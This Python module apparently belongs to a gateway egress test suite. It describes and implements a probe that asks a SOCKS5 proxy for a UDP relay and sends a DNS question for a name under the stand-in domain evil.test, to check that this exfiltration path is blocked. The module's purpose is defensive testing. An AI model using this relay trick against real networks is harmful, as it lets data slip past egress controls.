"""A question through the UDP relay of the SOCKS entry.

SOCKS 5 carries datagrams as well: the client asks for a relay and sends it packets for any
address. A gateway that judges CONNECT only has a second way out for names, and for all of UDP.

Not covered: SOCKS 4, which is refused as a whole.
"""

ATTACK = {
    "title": "Question through a SOCKS relay for UDP",
    "group": "dns",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 1928 section 7", "ATT&CK T1572", "R083"],
    "arrives": [{"what": "question", "name": "*.x.evil.test"}],
    "stopped": [{"reason": ["protocol-not-carried"], "entry": ["socks5"]}],
}

ASSOCIATE = b"\x05\x03\x00\x01" + bytes(6)


def attempt(kit):
    kit.do("relay", relay, f"{kit.word}.x.evil.test")


def relay(name):
    import socket
    import struct

    import probe
    import wire

    with socket.create_connection(probe.SOCKS, probe.TIMEOUT_S) as line:
        line.sendall(b"\x05\x01\x00")
        line.recv(2)
        line.sendall(ASSOCIATE)
        answer = line.recv(10)
        if answer[1]:
            return f"reply {answer[1]}"
        place = socket.inet_ntoa(answer[4:8]), struct.unpack("!H", answer[8:10])[0]
        packet = b"\0\0\0\1" + socket.inet_aton("9.9.9.9") + struct.pack("!H", 53)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(packet + wire.dns_message(wire.question(name)), place)
    return "sent"
